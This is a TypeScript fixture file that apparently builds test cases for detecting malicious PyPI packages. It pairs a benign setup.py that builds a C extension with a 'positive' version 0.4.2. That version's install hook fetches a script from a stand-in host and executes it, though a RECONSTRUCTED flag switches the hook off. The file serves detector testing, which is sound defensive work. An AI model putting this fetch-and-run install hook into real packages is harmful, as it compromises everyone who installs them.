import type { ReconstructedCase } from '../case.ts';
import { contextLibrary } from '../bases/context-library.ts';
import { after, edits, source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'python-setup',
  campaign: 'PyPI install-time payloads',
  technique: 'setup.py runs code of its own when the package is installed',
  follows: 'OSSF malicious-packages, PyPI cmdclass pattern',
  ecosystem: 'pypi',
};

const BUILD = source`
  import platform

  from setuptools import Extension, find_packages, setup
  from setuptools.command.build_ext import build_ext


  class Build(build_ext):
      def build_extensions(self):
          if platform.machine() == "x86_64":
              for extension in self.extensions:
                  extension.extra_compile_args.append("-mavx2")
          build_ext.build_extensions(self)


  setup(
      name="shoal-tables",
      packages=find_packages(include=["shoal_tables", "shoal_tables.*"]),
      ext_modules=[Extension("shoal_tables._fast", ["src/fast.c"])],
      cmdclass={"build_ext": Build},
  )
`;

export const pythonSetup: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'cmdclass',
    note: 'an install command that asks a host what to run; only an sdist is published',
    name: 'shoal-vectors',
    brand: 'shoal-vectors',
    base: sdistOnly,
    steps: [
      ...quiet(['0.4.0', '0.4.1']),
      {
        version: '0.4.2',
        daysAgo: 9,
        files: {
          'setup.py': source`
            import os
            import subprocess
            import urllib.request

            from setuptools import find_packages, setup
            from setuptools.command.install import install

            RECONSTRUCTED = True


            class PostInstall(install):
                def run(self):
                    install.run(self)
                    if RECONSTRUCTED:
                        return
                    script = urllib.request.urlopen("https://cdn.saltfog.invalid/setup.txt").read()
                    subprocess.Popen(["python", "-c", script.decode()], env=os.environ.copy())


            setup(
                name="shoal-vectors",
                version="0.4.2",
                packages=find_packages(include=["shoal_vectors", "shoal_vectors.*"]),
                cmdclass={"install": PostInstall},
            )
          `,
        },
      },
    ],
    signals: ['rug-pull/python-auto-run'],
  }),
  twin(ABOUT, {
    variant: 'build-extension',
    note: 'a setup.py that always built an extension, and now reads the README as well',
    name: 'shoal-tables',
    brand: 'shoal-tables',
    base: (identity) => {
      const draft = sdistOnly(identity);
      return { ...draft, files: { ...draft.files, 'setup.py': BUILD } };
    },
    steps: [
      ...quiet(['0.4.0', '0.4.1']),
      {
        version: '0.4.2',
        daysAgo: 9,
        files: {
          'setup.py': edits(
            after(
              'from setuptools.command.build_ext import build_ext',
              '\nREADME = open("README.md", encoding="utf8").read()',
            ),
            after(
              '    name="shoal-tables",',
              '    long_description=README,\n    long_description_content_type="text/markdown",',
            ),
          ),
        },
      },
    ],
  }),
];

function sdistOnly(identity: Parameters<typeof contextLibrary>[0]): ReturnType<typeof contextLibrary> {
  const draft = contextLibrary(identity);
  return { ...draft, manifest: { ...draft.manifest, kinds: ['sdist'] } };
}
